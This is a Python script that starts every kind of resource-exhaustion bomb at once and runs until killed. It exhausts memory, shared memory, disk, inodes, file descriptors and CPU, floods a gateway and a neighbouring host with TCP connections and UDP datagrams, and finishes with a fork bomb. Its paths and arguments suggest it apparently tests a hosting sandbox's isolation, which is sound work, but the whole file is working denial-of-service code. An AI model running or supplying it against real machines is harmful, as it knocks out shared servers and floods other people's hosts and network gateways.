"""Every bomb at once, until killed: processes, memory, disk, inodes, descriptors, processor, connections."""
import os, socket, sys, threading, time

gateway, neighbour = sys.argv[1:3]


def for_ever(f):
    while True:
        try:
            f()
        except (OSError, MemoryError, RuntimeError):
            pass


def memory():
    if os.fork() == 0:
        held = []
        while True:
            held.append(bytearray(os.urandom(1)) * (1 << 20))
    os.wait()


def shared_memory():
    with open("/dev/shm/bomb", "wb") as f:
        while True:
            f.write(b"x" * (1 << 20))


def disk():
    f = os.open("/home/site/bomb", os.O_CREAT | os.O_TRUNC | os.O_WRONLY)
    try:
        while True:
            os.write(f, b"x" * (1 << 20))
            os.fsync(f)
    finally:
        os.close(f)


def inodes():
    os.makedirs("/home/site/bombs", exist_ok=True)
    n = 0
    try:
        while True:
            os.close(os.open("/home/site/bombs/%d" % n, os.O_CREAT | os.O_WRONLY))
            n += 1
    except OSError:
        for i in range(n):
            os.unlink("/home/site/bombs/%d" % i)


def descriptors():
    held = []
    try:
        while True:
            held.append(os.open("/dev/null", os.O_RDONLY))
            held.extend(os.pipe())
    except OSError:
        for f in held:
            os.close(f)


def processor():
    while True:
        sum(range(100000))


def connections():
    held = []
    for host in (gateway, neighbour, "127.0.0.1", "203.0.113.9", "10.9.9.9"):
        for _ in range(100):
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex((host, 80))
            held.append(s)
    for s in held:
        s.close()


def datagrams():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while True:
        for host in (gateway, neighbour, "203.0.113.9"):
            try:
                s.sendto(b"x" * 1400, (host, 9))
            except OSError:
                pass


def forks():
    if os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                pass


for bomb in [memory, shared_memory, disk, inodes, descriptors, processor, processor, processor, connections, datagrams]:
    if os.fork() == 0:
        for_ever(bomb)
time.sleep(0.5)  # the last one leaves no process to the others
for_ever(forks)
